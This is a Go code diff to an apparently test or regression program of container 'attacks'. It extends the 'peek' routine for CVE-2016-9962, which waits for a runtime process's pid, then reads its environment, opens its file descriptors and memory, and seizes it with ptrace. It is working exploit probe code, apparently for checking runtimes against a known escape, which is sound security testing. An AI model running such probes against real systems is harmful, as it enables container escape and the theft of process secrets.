@@ -44,7 +44,7 @@ func main() {
 	case "swap":
 		swap(os.Args[2], os.Args[3])
 	case "peek":
-		peek(os.Args[2])
+		peek(os.Args[2], len(os.Args) > 3 && os.Args[3] == "noptrace")
 	default:
 		fmt.Fprintln(os.Stderr, "unknown attack", os.Args[1])
 		os.Exit(2)
@@ -196,8 +196,9 @@ func swap(a, b string) {
 // peek is CVE-2016-9962: once the file names a pid (a runtime process
 // that joined the container, held before its execve), try what a process
 // with the same ids and capabilities could do to it: read its
-// environment, open its fds and memory, attach to it.
-func peek(file string) {
+// environment, open its fds and memory, attach to it (unless noptrace:
+// a process held inside its execve makes an attach wait for the execve).
+func peek(file string, noptrace bool) {
 	var pid string
 	for {
 		if b, err := os.ReadFile(file); err == nil && len(b) > 0 {
@@ -212,8 +213,17 @@ func peek(file string) {
 	fmt.Println("environ", errno(err))
 	ents, err := os.ReadDir(p + "/fd")
 	fmt.Println("fd-list", len(ents), errno(err))
-	for n := 0; n < 16; n++ {
-		f := p + "/fd/" + strconv.Itoa(n)
+	names := []string{}
+	for _, e := range ents {
+		names = append(names, e.Name())
+	}
+	if err != nil { // not listed: guess
+		for n := 0; n < 16; n++ {
+			names = append(names, strconv.Itoa(n))
+		}
+	}
+	for _, n := range names {
+		f := p + "/fd/" + n
 		if _, err := os.Lstat(f); err != nil {
 			continue
 		}
@@ -229,6 +239,10 @@ func peek(file string) {
 		unix.Close(fd)
 	}
 	fmt.Println("mem", errno(err))
+	if noptrace {
+		fmt.Println("done", pid)
+		return
+	}
 	n, err := strconv.Atoi(pid)
 	if err == nil {
 		// Seize, not attach: no SIGSTOP left behind; our exit detaches.
